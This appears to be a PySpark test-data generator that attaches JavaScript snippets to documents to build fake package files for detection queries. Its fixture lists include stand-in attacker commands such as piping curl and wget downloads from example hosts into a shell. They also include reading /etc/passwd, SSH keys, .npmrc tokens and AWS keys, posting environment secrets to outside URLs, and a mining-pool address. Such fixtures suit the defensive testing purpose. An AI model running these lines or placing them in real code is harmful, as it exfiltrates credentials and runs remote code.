"""Package tables derived from the driver's tables, for the registered queries.

Prose holds no code, so files are documents with a snippet appended; names, versions, scripts and
edges are arithmetic over keys. Every expression here is SQL that Spark and DuckDB read alike.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

HEX, B64 = "0123456789abcdef" * 4, "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkrL0FCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFla"
#: One of these is appended to each document.
SNIPPETS = [
    "module.exports = 1;",
    "var x = eval(someVar);",
    "eval(a); eval(b);\nfetch(url);",
    "var f = new Function('return ' + code);",
    "Buffer.from(x, 'base64').toString(); eval(y);",
    "x[child_process].exec('ls');",
    'const c = "curl http://evil.example/s.sh | bash";',
    "const cp = require('child_process');",
    "import cp from 'child_process';",
    "const d = { a: process.env.SECRET, b: process.env.TOKEN };",
    "fs.readFileSync('/etc/passwd');",
    "net.connect(80);\ndgram.createSocket('udp4');",
    "http.request('http://10.0.0.1/x');",
    "dns.lookup(host);",
    "fs.writeFileSync(p, d);",
    "new WebSocket(u);",
    "crypto.createDecipher('aes', k);",
    "var r = new XMLHttpRequest();\nfetch(u)",
    "fs.readFile(p, cb);",
    "// eval(x)\n/* eval(y) */ var ok = 1;\n# eval(z)",
    "\n".join(["fs.readFile(p);"] * 11),
    f'var h = "{HEX}";',
    f'"integrity": "sha512-{B64}"\nvar b = "{B64}";',
    'var e = "' + "\\x41\\x42" * 5 + '";',
    "eval(atob('x'));\nobj.__proto__ = y;",
    "JSON.stringify(process.env);\nbtoa(x); fetch (u);",
    "fs.createReadStream(home + '/.ssh/id');\nvar p = 'stratum+tcp://pool';",
    "const s = new net.Socket(); s.pipe(spawn);\nBuffer.from(a) + axios (b)",
    "eval(a);\neval(b);\neval(c);\neval(d);",
    "run(\"wget http://x.example/a | sh\");\nnew Function('a' + b)",
    "const s = process.env.K;\nconst e = s + 1;\nfetch(e);",
    "const b = fetch(u);\nfs.writeFileSync(p, b);\nexec(b);",
]
N = len(SNIPPETS)
#: Statements and calls over several lines: one of these follows each document, which is a block comment then.
CODE = [
    "eval(\n  input\n);",
    "eval('static'); var fn = new Function(\n  'a', body);",
    "require('child_process')\n  .exec(cmd);",
    "import(\n  'child_process'\n);",
    "fs.readFileSync(\n  '/etc/passwd', 'utf8');",
    "const key = process.env.KEY;\nfetch('http://x.example/' + key);",
    "const enc = Buffer.from(data)\n  .toString('base64');\nfetch(url + enc);",
    "f()()()()()()(1);",
    "table[0x1f](x);\ntable[i + 1](y);\ntable['k'](z);",
    "var s = 'e' + 'v' +\n  'a' + 'l';",
    "process.binding('fs');\nvm.runInThisContext(code);",
    "Reflect.apply(require, null, [name]);",
    "const a = 1; // eval(x)\n/* new Function(y) */ const t = `eval(z)`;",
    "const body = fetch(url);\nfs.writeFileSync(\n  target,\n  body);\nexecSync(target + body);",
    "const token = fs.readFileSync(home + '/.npmrc'),\n  sent = { token };\nhttp.request(sent);",
    "const secret = process.env.S;\nonReady(function () {\n  const copy = secret;\n  fetch(secret);\n  exec(copy);\n});",
    "let pick;\npick = process.env.P;\nreply = axios.post(api, pick);",
    "const creds = fs.readFile('.aws/keys');\nwhenReady(() => {\n  request(creds);\n});",
    "const one = fetch(a);\nconst two = one;\nconst three = two + 1;\neval(three);",
    "const host = process.env.H;\naxios[host](1);",
    "const home = process.env.HOME;\nspawn('ls', home);",
    "module.exports = 1;",
    "if (go) { var e = process.env.E; }\nelse { fetch(e); }",
]
#: Pieces with comments and with quotes that hold signs of comments.
COMMENTS = [
    "var u = \"http://a.example/*b\"; // gone",
    "a /* gone\ngone */ b // gone\nd",
    "var s = '/* kept */' + \"// kept\"; /* gone */ t();",
    "`kept // kept` /* `gone` */ + y",
    "var q = \"it\\\"s // kept\" // gone \"",
    "'open // kept\nnext // gone",
    "x /*/ gone */ / y /* gone",
]
DIRS = ["lib/", "src/", "dist/", "config/", "test/", "Build/x/", "adapters/", "scripts/"]
EXTS = [".js", ".ts", ".min.js", ".mjs", ".json", ".md", ".jsx"]


def pick(values: list[str], key: str) -> str:
    """SQL for the element of ``values`` that ``key`` names, modulo their number."""
    return f"case {key} % {len(values)} " + " ".join(f"when {i} then {quote(v)}" for i, v in enumerate(values)) + " end"


def quote(v: str) -> str:
    return "'" + v.replace("'", "''") + "'"


PATH = f"concat({pick(DIRS, '(doc_id // 3)')}, 'f', cast(doc_id as string), {pick(EXTS, '(doc_id // 2)')})"


def spark_sql(expression: str) -> str:
    """Integer division is spelled differently."""
    return expression.replace(" // ", " div ")


def snippets(spark: SparkSession) -> DataFrame:
    return spark.createDataFrame(list(enumerate(SNIPPETS)), "k long, snippet string")


def streamed(spark: SparkSession, sf_dir: str, table: str, files: int = 64) -> DataFrame:
    """A table as a stream, ``files`` of its files at a time. A stream reads folders or patterns, and a table may be one file,
    so its name is given as a pattern."""
    path = f"{sf_dir}/{table}.parque"
    return spark.readStream.schema(spark.read.parquet(f"{path}t").schema).option("maxFilesPerTrigger", files).parquet(f"{path}[t]")


def files(spark: SparkSession, sf_dir: str) -> DataFrame:
    return files_of(spark.read.parquet(f"{sf_dir}/documents.parquet"))


def files_of(docs: DataFrame) -> DataFrame:
    joined = docs.join(F.broadcast(snippets(docs.sparkSession)), F.col("doc_id") % N == F.col("k"))  # a fixed list
    return joined.select(F.col("source").alias("package"), F.lit("1.0.0").alias("version"), F.expr(spark_sql(PATH)).alias("path"), F.concat(F.coalesce("text", F.lit("")), F.lit("\n"), "snippet").alias("content"), "doc_id")


#: Every second round of documents wraps its code in a function.
WRAPPED = f"((doc_id // {len(CODE)}) % 2 = 1)"


def scripts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Files of one comment, the document, and a piece of CODE, some of it inside a function."""
    docs = spark.read.parquet(f"{sf_dir}/documents.parquet")
    codes = spark.createDataFrame(list(enumerate(CODE)), "k long, code string")
    joined = docs.join(F.broadcast(codes), F.col("doc_id") % len(CODE) == F.col("k"))  # a fixed list
    wrapped = F.expr(spark_sql(WRAPPED))
    inside = F.when(wrapped, F.concat(F.lit("function w"), F.col("doc_id").cast("string"), F.lit("(a) {\n"), "code", F.lit("\n}"))).otherwise(F.col("code"))
    comment = F.concat(F.lit("/* "), F.replace(F.coalesce("text", F.lit("")), F.lit("*/"), F.lit("* /")), F.lit(" */\n"))
    return joined.select(F.col("source").alias("package"), F.lit("1.0.0").alias("version"), F.expr(spark_sql(PATH)).alias("path"), F.concat(comment, inside).alias("content"))


def commented(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Files of one comment, the document, and one of COMMENTS."""
    docs = spark.read.parquet(f"{sf_dir}/documents.parquet")
    pieces = spark.createDataFrame(list(enumerate(COMMENTS)), "k long, piece string")
    joined = docs.join(F.broadcast(pieces), F.col("doc_id") % len(COMMENTS) == F.col("k"))  # a fixed list
    comment = F.concat(F.lit("/* "), F.replace(F.coalesce("text", F.lit("")), F.lit("*/"), F.lit("* /")), F.lit(" */\n"))
    return joined.select(F.col("source").alias("package"), F.lit("1.0.0").alias("version"), F.expr(spark_sql(PATH)).alias("path"), F.concat(comment, "piece").alias("content"))


FILES_SQL = f"""snippets(k, snippet) AS (VALUES {", ".join(f"({i}, {quote(s)})" for i, s in enumerate(SNIPPETS))}),
files AS (SELECT source AS package, '1.0.0' AS version, {PATH} AS path, coalesce(text, '') || chr(10) || snippet AS content, doc_id FROM documents JOIN snippets ON doc_id % {N} = k),
split AS (SELECT *, string_split(content, chr(10)) AS p FROM files),
cut AS (SELECT package, version, path, doc_id, CASE WHEN p[len(p)] = '' THEN p[1:len(p) - 1] ELSE p END AS ls FROM split),
lines AS (SELECT package, version, path, doc_id, line, regexp_replace(raw, chr(13) || '$', '') AS raw FROM (SELECT package, version, path, doc_id, unnest(generate_series(1, len(ls))) AS line, unnest(ls) AS raw FROM cut))"""
SPACES_SQL = "' ' || chr(9) || chr(10) || chr(11) || chr(12) || chr(13)"


def cut_sql(column: str, most: int) -> str:
    t = f"trim({column}, {SPACES_SQL})"
    return f"CASE WHEN length({t}) <= {most} THEN {t} ELSE left({t}, {most}) || '...' END"


_BASE = "regexp_extract(path, '[^/]*$')"
SCRIPT_SQL = f"NOT regexp_matches(lower(path), '(^|/)(dist|bundle|build|umd|cjs|esm)/') AND NOT contains({_BASE}, '.min.')"


def extension_sql(extensions: str) -> str:
    return rf"regexp_matches({_BASE}, '^.+\.({extensions})$')"
